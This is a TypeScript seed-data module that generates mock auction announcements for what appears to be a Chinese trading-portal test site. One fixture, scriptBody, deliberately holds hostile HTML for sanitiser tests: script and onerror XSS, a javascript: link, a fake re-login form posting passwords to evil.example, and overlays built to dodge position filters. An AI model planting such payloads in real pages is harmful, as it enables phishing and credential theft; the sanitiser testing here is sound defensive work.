import type { AnncKind, AnncState } from '@/lib/contract/announcements';
import type { ApplicantStamp } from '@/lib/contract/announcement-detail';
import { applicantStamps } from '@/lib/contract/announcement-detail';
import type { SeedAnnouncement } from './seed-announcement';
import type { Prng } from '../../prng';
import { applicantNames, places, publisherKinds, searchableWord, tradedThings } from './portal-words';
import type { VariantKey } from '@/sites/variants';
import { formatTime, addHours } from '../../centre-time';
import { mediaUrl } from '../../media/handler';
import { anncBadge } from './annc-badges';

/** How many announcements of each kind every platform gets. */
export const anncCounts: Record<AnncKind, number> = { project: 64, notice: 16, result: 24 };

const states: AnncState[] = ['Published', 'WaitingBid', 'Bidding', 'BidEnded'];

export function anncId(key: VariantKey, kind: AnncKind, seq: number): string {
  return `${key}-${kind}-${String(seq).padStart(3, '0')}`;
}

/** The announcement of each platform whose body carries a script tag (sanitising must drop it). */
export const scriptAnncSeq = 2;
export const scriptBody =
  '<p>本公告含有一段不应执行的脚本。</p><script>window.__portalXss = "script";</script>' +
  '<img src="/missing.png" onerror="window.__portalXss = \'onerror\'" alt="">' +
  '<a href="javascript:window.__portalXss=\'link\'">查看附件</a>' +
  // A fake sign-in form and page-covering boxes (inline style, and the portal's own utility classes).
  '<form action="https://evil.example/steal" method="post"><p>会话已过期，请重新输入密码</p>' +
  '<input name="password" type="password"><button type="submit">重新登录</button></form>' +
  '<div title="hostile:inline" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">系统维护中</div>' +
  '<div title="hostile:class" class="fixed inset-0 z-50 bg-white">页面已失效</div>' +
  // Overlays that pass a filter looking for `position: fixed|absolute` (issue 20 item 5).
  '<div title="hostile:var" style="--p:fixed;position:var(--p);top:0;left:0;width:100%;height:100%;background:#fff">请重新登录</div>' +
  '<div title="hostile:relative" style="position:relative;top:-600px;height:600px;background:#fff">账号已冻结</div>' +
  '<div title="hostile:transform" style="transform:translateY(-600px);height:600px;background:#fff">请验证身份</div>' +
  '<div title="hostile:margin" style="margin-top:-600px;height:600px;background:#fff">请输入银行卡号</div>' +
  // The page's own style sheets place elements by data attribute too (the toaster is fixed).
  '<ol title="hostile:toaster" data-sonner-toaster="" data-y-position="top" data-x-position="left"><li>短信验证码已发送</li></ol>';

/** Formatting centres use in every 竞买须知: a table with borders, bold, colours and alignment. */
export const noticeBody =
  '<ol><li>意向方须在报名截止前完成报名并交纳保证金。</li><li>竞价采用网络自由报价方式，价高者得。</li></ol>' +
  '<table style="width:100%;border-collapse:collapse"><tbody>' +
  '<tr><th style="border:1px solid #999;text-align:center"><strong>费用</strong></th>' +
  '<th style="border:1px solid #999;text-align:center">标准</th></tr>' +
  '<tr><td style="border:1px solid #999;padding:4px 8px">交易服务费</td>' +
  '<td style="border:1px solid #999;text-align:right;color:#c00;font-weight:bold">按成交价 1%</td></tr>' +
  '</tbody></table>';

type Built = SeedAnnouncement & { PlatformId: string };

/**
 * One announcement: deterministic from the platform, kind and sequence. Sequence 1 of a project
 * list carries every applicant stamp and seven subjects; sequence 2 a script in its body; sequence
 * 3 the searchable word in its title.
 */
export function buildAnnouncement(
  key: VariantKey,
  platformId: string,
  kind: AnncKind,
  seq: number,
  rng: Prng,
  clock: Date,
): Built {
  const thing = rng.pick(tradedThings[key]);
  const place = rng.pick(places);
  const suffix =
    kind === 'notice'
      ? '变更公告'
      : kind === 'result'
        ? '成交结果公示'
        : key.includes('lease')
          ? '租赁项目'
          : '转让项目';
  const title =
    seq === 3 && kind === 'project'
      ? `${place}${searchableWord}小区${thing}${suffix}`
      : `${place}${thing}${suffix}（第${seq}号）`;
  const state: AnncState = kind === 'result' ? 'BidEnded' : states[(seq - 1) % states.length]!;
  const resultPass = seq % 3 !== 0;
  const badge = anncBadge(kind, state, resultPass);
  const publish = addHours(clock, -24 * (seq + (kind === 'result' ? 30 : 0)));
  const { applyEnd, bidStart, bidEnd } = anncDates(state, kind === 'result', seq, clock);
  const code = `${key.toUpperCase().slice(0, 4)}${kind === 'result' ? 'R' : kind === 'notice' ? 'N' : 'P'}2026${String(seq).padStart(4, '0')}`;
  const subjectCount = seq === 1 ? 7 : rng.int(1, 3);
  const applicantCount = seq === 1 ? applicantStamps.length : state === 'Published' ? 0 : rng.int(1, 5);
  const stampFor = (index: number): ApplicantStamp =>
    seq === 1 ? applicantStamps[index]! : applicantStamps[(seq + index) % applicantStamps.length]!;

  return {
    PlatformId: platformId,
    AnncId: anncId(key, kind, seq),
    Kind: kind,
    Title: title,
    Code: code,
    ViewCount: rng.int(20, 3000),
    ApplyEndTime: formatTime(applyEnd),
    BidStartTime: bidStart ? formatTime(bidStart) : null,
    BidEndTime: bidEnd ? formatTime(bidEnd) : null,
    // The deposit is due when applications close; only a project asks for one.
    DepositEndTime: kind === 'project' ? formatTime(applyEnd) : null,
    PublishTime: formatTime(publish),
    // Notices carry no picture; projects and results a generated photo from the attachment host.
    ImageUrl: kind === 'notice' ? null : mediaUrl('photo', anncId(key, kind, seq)),
    State: state,
    BadgeStyle: badge.style,
    BadgeText: badge.text,
    CanApply: kind === 'project' && (state === 'Published' || state === 'WaitingBid') && applyEnd > clock,
    OrgName: `${place}${rng.pick(publisherKinds)}`,
    Steps: steps(state, kind === 'result' ? resultPass : null, publish, bidStart),
    Tabs: [
      {
        TabId: 'content',
        Title: kind === 'result' ? '结果公示' : '公告内容',
        Html:
          seq === scriptAnncSeq
            ? scriptBody
            : `<h3>${title}</h3><p>受委托方委托，现将${place}${thing}以网络竞价方式公开${key.includes('lease') ? '招租' : '转让'}，欢迎符合条件的意向方报名参与。</p><p>项目编号：${code}</p>`,
      },
      {
        TabId: 'notice',
        Title: '竞买须知',
        Html: noticeBody,
      },
      { TabId: 'contact', Title: '联系方式', Html: '<p>联系人：王老师</p><p>联系电话：0371-6596XXXX</p>' },
    ],
    Applicants: Array.from({ length: applicantCount }, (_, index) => ({
      ApplicantId: `${anncId(key, kind, seq)}-a${index + 1}`,
      // A day after publishing, five hours apart, but never later than the seed's now.
      Time: formatTime(
        new Date(
          Math.min(
            addHours(publish, 24 + index * 5).getTime(),
            clock.getTime() - (applicantCount - index) * 600_000,
          ),
        ),
      ),
      Name: applicantNames[(seq + index) % applicantNames.length]!,
      Contact: `13${String(800 + index)}****${String(1000 + seq).slice(-4)}`,
      Stamp: stampFor(index),
    })),
    Subjects: Array.from({ length: subjectCount }, (_, index) => ({
      SubjectId: `${anncId(key, kind, seq)}-s${index + 1}`,
      Name: `标的${index + 1}：${place}${thing}`,
      Groups: [
        {
          Title: '基本信息',
          Rows: [
            { Label: '标的名称', Value: `${place}${thing}（${index + 1}）` },
            { Label: '所在地区', Value: place },
            { Label: '标的类别', Value: thing },
            { Label: '数量', Value: `${rng.int(1, 50)} 项` },
          ],
        },
        {
          Title: '交易条件',
          Rows: [
            { Label: '起始价', Value: `${rng.int(5, 900)} 万元` },
            { Label: '保证金', Value: `${rng.int(1, 50)} 万元` },
            { Label: '增价幅度', Value: `${rng.int(1, 10) * 1000} 元` },
          ],
        },
      ],
    })),
    Attachments: [{ Name: `${code}竞买须知.pdf`, Url: `/files/${code}.pdf` }],
    // Derived from the sequence, not drawn: a draw here would move every later seeded value.
    ...leaseFacts(key, kind, seq),
    ...dealFacts(kind, resultPass, seq),
    ...priceFacts(key, kind, resultPass, seq),
  };
}

const minutes = (date: Date, count: number) => new Date(date.getTime() + count * 60_000);

/**
 * The key dates of an announcement, around the seed's clock and true to its state: open for
 * applications closes in one to five days and bids a day later (every eighth has no bid date yet);
 * every other 待竞价 starts within the hour (the first ten minutes after the seed, applications
 * closed), the rest in days with applications open until two hours before; 竞价中 started within
 * the last hour and ends in two to seven hours; ended ones and results ended days ago.
 */
function anncDates(state: AnncState, result: boolean, seq: number, clock: Date) {
  if (result || state === 'BidEnded') {
    const bidStart = addHours(clock, -24 * ((seq % 5) + 1) - (seq % 7));
    return { applyEnd: addHours(bidStart, -24), bidStart, bidEnd: addHours(bidStart, 2) };
  }
  if (state === 'Bidding') {
    const bidStart = minutes(clock, -10 - (seq % 50));
    return { applyEnd: addHours(bidStart, -24), bidStart, bidEnd: addHours(clock, 2 + (seq % 6)) };
  }
  if (state === 'WaitingBid') {
    // Every eighth starts within hours, half an hour apart: a browser suite on a busy machine can
    // run for an hour and more, and each of its tests still finds a start ahead on the first page.
    const soon = seq % 8 === 6;
    const bidStart = soon
      ? minutes(clock, 10 + ((seq - 6) / 8) * 30)
      : addHours(clock, 24 * ((seq % 5) + 1) + (seq % 9));
    return {
      applyEnd: soon ? addHours(bidStart, -24) : addHours(bidStart, -2),
      bidStart,
      bidEnd: addHours(bidStart, 2),
    };
  }
  // One to five days ahead, a few minutes apart; bounded, since an announcement published later has a large seq.
  const applyEnd = minutes(clock, 60 * 24 * ((seq % 5) + 1) + (seq % 60) * 7);
  const bidStart = seq % 8 === 1 ? null : addHours(applyEnd, 24);
  return { applyEnd, bidStart, bidEnd: bidStart ? addHours(bidStart, 2) : null };
}

/**
 * The number a lot's figures grow with: its sequence, up to 99 (the day strip's lots count from
 * 20001, and 20001 × 110,000 yuan made a lot of 2.2 billion).
 */
const sizeSeq = (seq: number) => seq % 100;

/** A lease property's monthly rent (yuan) and area (m²). */
function leaseFacts(key: VariantKey, kind: AnncKind, seq: number) {
  const lease = key.includes('lease') && kind !== 'notice';
  const n = sizeSeq(seq);
  return { Rent: lease ? 1200 + n * 150 : null, Area: lease ? 40 + n * 7.5 : null };
}

/**
 * The list's price (a lease's monthly rent, a sold result's deal price) and a project's deposit, in
 * yuan. Every fifth project gives neither, as a centre that leaves them to the announcement's text
 * does: the pages must say so.
 */
export function priceFacts(key: VariantKey, kind: AnncKind, resultPass: boolean, seq: number) {
  if (kind === 'notice' || (kind === 'project' && seq % 5 === 0)) return { Price: null, Deposit: null };
  if (kind === 'result') return { Price: dealFacts(kind, resultPass, seq).DealPrice, Deposit: null };
  const price = key.includes('lease') ? leaseFacts(key, kind, seq).Rent! : (30 + sizeSeq(seq) * 11) * 10_000;
  return { Price: price, Deposit: Math.round(price / 10) };
}

/** A sold result's price (yuan) and buyer. */
function dealFacts(kind: AnncKind, resultPass: boolean, seq: number) {
  const sold = kind === 'result' && resultPass;
  return {
    DealPrice: sold ? (120 + sizeSeq(seq) * 37) * 10_000 : null,
    Transferee: sold ? applicantNames[seq % applicantNames.length]! : null,
  };
}

export function steps(state: AnncState, resultPass: boolean | null, publish: Date, bidStart: Date | null) {
  const names = ['发布公告', '意向报名', '资格审核', '网络竞价', '结果公示'];
  const reached = { Published: 1, WaitingBid: 2, Bidding: 3, BidEnded: 5 }[state];
  return names.map((name, index) => {
    const done = index < reached - 1 || (state === 'BidEnded' && index === names.length - 1);
    const current = !done && index === reached - 1;
    const isLast = index === names.length - 1;
    const time = index === 0 ? publish : index === 3 && bidStart ? bidStart : null;
    return {
      Name: name,
      Time: done || current ? (time ? formatTime(time) : null) : null,
      Status: done ? ('done' as const) : current ? ('current' as const) : ('pending' as const),
      Stamp:
        isLast && resultPass !== null ? (resultPass ? ('success' as const) : ('failure' as const)) : null,
    };
  });
}
